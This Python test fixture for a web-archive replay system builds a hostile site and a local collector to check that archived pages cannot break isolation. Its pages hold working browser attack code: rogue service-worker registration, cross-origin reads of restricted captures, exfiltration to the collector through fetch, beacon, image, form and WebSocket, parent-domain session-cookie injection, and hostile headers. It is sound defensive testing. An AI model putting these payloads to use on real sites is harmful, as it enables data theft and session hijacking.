"""A site whose pages attack the archive that replays them, and a collector standing in for the outside.

``AttackSite`` is a content model for ``demo.site_server.SiteServer``: harvested like any site, then
replayed in Chromium by ``tests/browser/test_hostile_replay.py``. Its pages try, each through every
replay modifier, what issue 35 found archived code could do with the archive's authority:

- ``/sw.html`` registers ``/sw.js`` (archived with ``Service-Worker-Allowed: /``) as a service worker
  through every modifier's address, with scope ``/`` and without;
- ``/steal.html`` fetches a reading-room capture (on this origin and on the reading-room host),
  frames its own raw (``im_``) address, and posts whatever it read to the collector by fetch,
  beacon, image, form and WebSocket;
- ``/frame.html`` frames a staff-only capture of the restricted host and reads the frame;
- ``/cookie.html`` sets cookies for the parent domain, through wombat and through the browser's own
  cookie setter, named like the console's session;
- ``/two-types.html`` and ``/listed-types.html`` are HTML under ``image/png`` and ``text/html``;
- ``/headers.html`` carries every archived header that acts beyond the page (``Refresh`` to the
  collector, ``Set-Cookie`` for the domain, ``Clear-Site-Data``, HSTS, a ``Link`` preload);
- ``/room/secret.html`` (under a reading-room rule) and ``/staff/secret.html`` (staff only) hold the
  words that must never reach the collector.

Every script reports what it did into the page (``#out``), never to the collector: a byte there is
a byte that left. ``Collector`` records every request it gets, from anything.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from demo.site_server import Resource

HTML = (("Content-Type", "text/html; charset=utf-8"),)
MODS = ("", "id_", "im_", "oe_", "ex_", "xx_", "mp_", "if_", "fr_", "js_", "cs_", "sw_")
SECRET_ROOM = "mkroomsecret"
SECRET_STAFF = "mkstaffsecret"
PAGES = (
    "/sw.html",
    "/steal.html",
    "/frame.html",
    "/cookie.html",
    "/two-types.html",
    "/listed-types.html",
    "/headers.html",
)


class Collector:
    """An HTTP server on 127.0.0.1 that answers everything with 204 and records each request."""

    def __init__(self):
        seen = self.seen = []

        class Handler(BaseHTTPRequestHandler):
            def _any(self):
                length = int(self.headers.get("Content-Length") or 0)
                seen.append((self.command, self.path, self.rfile.read(length) if length else b""))
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = _any

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    def __enter__(self) -> Collector:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def _script(body: str) -> str:
    return (
        "<script>var out = {};"
        'function done(k, v) { out[k] = String(v).slice(0, 200); document.getElementById("out").textContent = '
        "JSON.stringify(out); }"
        "var m = /^\\/([^\\/]+)\\/(\\d+)[a-z_]*\\//.exec(location.pathname) || [], info = window.wbinfo || {};"
        'var coll = info.coll || m[1] || "hostile", ts = info.timestamp || m[2] || "2030";'
        f"{body}</script>"
    )


def _page(title: str, body: str, script: str = "") -> bytes:
    return (
        f'<!DOCTYPE html><html><head><title>{title}</title></head><body><h1>{title}</h1><pre id="out"></pre>'
        f"{body}{_script(script) if script else ''}</body></html>"
    ).encode()


class AttackSite:
    """The content model. ``collector``: the collector's base URL as the browser reaches it;
    ``hosts``: the archive's host names with port (``room``, ``restricted``)."""

    def __init__(self, collector: str, hosts: dict[str, str]):
        self.collector = collector
        self.hosts = hosts
        self.base = ""  # the site's own URL (set once the server listens): archived URLs name it

    def _exfiltrate(self, what: str) -> str:
        c = json.dumps(self.collector)
        return f"""
function send(data) {{
  var c = {c};
  try {{ fetch(c + "/fetch", {{method: "POST", mode: "no-cors", body: data}})
           .catch(function (e) {{ done("fetch", e); }}); }} catch (e) {{ done("fetch", e); }}
  try {{ done("beacon", navigator.sendBeacon(c + "/beacon", data)); }} catch (e) {{ done("beacon", e); }}
  try {{ var i = new Image(); i.src = c + "/img?" + encodeURIComponent(data); }} catch (e) {{ done("img", e); }}
  try {{ var w = new WebSocket(c.replace("http", "ws") + "/ws"); }} catch (e) {{ done("ws", e); }}
  try {{ var f = document.createElement("form"); f.method = "POST"; f.action = c + "/form";
         var t = document.createElement("input"); t.name = "d"; t.value = data; f.appendChild(t);
         var fr = document.createElement("iframe"); fr.name = "sink"; document.body.appendChild(fr);
         f.target = "sink"; document.body.appendChild(f); f.submit(); }} catch (e) {{ done("form", e); }}
}}
{what}"""

    def resolve(self, version, path, headers):
        site = self.base
        if path == "/":
            links = "".join(f'<a href="{p}">{p}</a> ' for p in (*PAGES, "/room/secret.html", "/staff/secret.html"))
            return Resource(headers=HTML, body=_page("Attack site", links + '<a href="/sw.js">sw</a>'))
        if path == "/sw.js":
            script = f"self.addEventListener('fetch', function (e) {{ fetch({json.dumps(self.collector)} + '/sw'); "
            script += "e.respondWith(new Response('PWNED by an archived service worker',"
            script += " {headers: {'Content-Type': 'text/html'}})); });"
            return Resource(
                headers=(("Content-Type", "application/javascript"), ("Service-Worker-Allowed", "/")),
                body=script.encode(),
            )
        if path == "/sw.html":
            mods = json.dumps(MODS)
            script = f"""
var mods = {mods}, site = {json.dumps(site)};
if (!navigator.serviceWorker) {{ done("sw", "no serviceWorker here"); }}
mods.forEach(function (mod) {{
  var url = "/" + coll + "/" + ts + mod + "/" + site + "/sw.js";
  [{{scope: "/"}}, undefined].forEach(function (opts, n) {{
    try {{
      navigator.serviceWorker.register(url, opts).then(function () {{ done("sw" + mod + n, "REGISTERED"); }},
        function (e) {{ done("sw" + mod + n, e); }});
    }} catch (e) {{ done("sw" + mod + n, e); }}
  }});
}});
try {{ navigator.serviceWorker.register("sw.js", {{scope: "/"}})
        .then(function () {{ done("rel", "REGISTERED"); }}, function (e) {{ done("rel", e); }}); }}
catch (e) {{ done("rel", e); }}
"""
            return Resource(headers=HTML, body=_page("Service workers", "", script))
        if path == "/steal.html":
            room = json.dumps(f"http://{self.hosts['room']}")
            what = f"""
var targets = ["/" + coll + "/" + ts + "id_/" + {json.dumps(site)} + "/room/secret.html",
               {room} + "/" + coll + "/" + ts + "id_/" + {json.dumps(site)} + "/room/secret.html",
               {room} + "/" + coll + "/" + ts + "/" + {json.dumps(site)} + "/room/secret.html"];
targets.forEach(function (t, n) {{
  fetch(t, {{credentials: "include"}}).then(function (r) {{ return r.text(); }}).then(function (text) {{
    done("read" + n, text.indexOf({json.dumps(SECRET_ROOM[:6])} + {json.dumps(SECRET_ROOM[6:])}) >= 0
                     ? "READ THE SECRET" : "no secret");  // (the word, never in this page's own bytes)
    send(text);
  }}, function (e) {{ done("read" + n, e); send("nothing read " + n); }});
}});
var raw = document.createElement("iframe");
raw.src = "/" + coll + "/" + ts + "im_/" + {json.dumps(site)} + "/steal.html";
document.body.appendChild(raw);
"""
            return Resource(headers=HTML, body=_page("Steal", "", self._exfiltrate(what)))
        if path == "/frame.html":
            restricted = json.dumps(f"http://{self.hosts['restricted']}")
            what = f"""
var f = document.createElement("iframe");
f.src = {restricted} + "/" + coll + "/" + ts + "/" + {json.dumps(site)} + "/staff/secret.html";
f.onload = function () {{
  try {{ var text = f.contentDocument.body.innerText; done("frame", text.slice(0, 50)); send(text); }}
  catch (e) {{ done("frame", e); send("frame not read"); }}
}};
document.body.appendChild(f);
"""
            # the same without a script: raw modes run none, but their HTML still frames
            static = f'<iframe id="restricted" src="http://{self.hosts["restricted"]}/hostile/2030/{site}/staff/secret.html">'
            return Resource(headers=HTML, body=_page("Frame", static + "</iframe>", self._exfiltrate(what)))
        if path == "/cookie.html":
            script = """
var domain = location.hostname.split(".").slice(-2).join(".");
document.cookie = "strata_staff=from-wombat; domain=" + domain + "; path=/jobs";
try {
  var setter = Object.getOwnPropertyDescriptor(Document.prototype, "cookie").set;
  setter.call(document, "strata_staff=from-the-native-setter; domain=" + domain + "; path=/jobs");
  setter.call(document, "strata_restricted=x; domain=" + domain + "; path=/");
  done("cookie", "set");
} catch (e) { done("cookie", e); }
"""
            return Resource(headers=HTML, body=_page("Cookies", "", script))
        if path in ("/two-types.html", "/listed-types.html"):
            types = (
                (("Content-Type", "image/png"), ("Content-Type", "text/html"))
                if path == "/two-types.html"
                else (("Content-Type", "image/png, text/html"),)
            )
            body = _page("Two types", "", self._exfiltrate("send('html under an image type ran');"))
            return Resource(headers=types, body=body)
        if path == "/headers.html":
            archived = (
                ("Refresh", f"0; url={self.collector}/refresh"),
                ("Set-Cookie", "strata_staff=archived; Domain=strata.test; Path=/"),
                ("Clear-Site-Data", '"*"'),
                ("Strict-Transport-Security", "max-age=31536000; includeSubDomains"),
                ("Link", f"<{self.collector}/preload>; rel=preload; as=image"),
                ("Service-Worker-Allowed", "/"),
            )
            return Resource(headers=HTML + archived, body=_page("Headers", "<p>archived headers</p>"))
        if path == "/room/secret.html":
            return Resource(headers=HTML, body=_page("Reading room", f"<p>{SECRET_ROOM}</p>"))
        if path == "/staff/secret.html":
            return Resource(headers=HTML, body=_page("Staff only", f"<p>{SECRET_STAFF}</p>"))
        return Resource(404, (("Content-Type", "text/plain"),), b"not here")
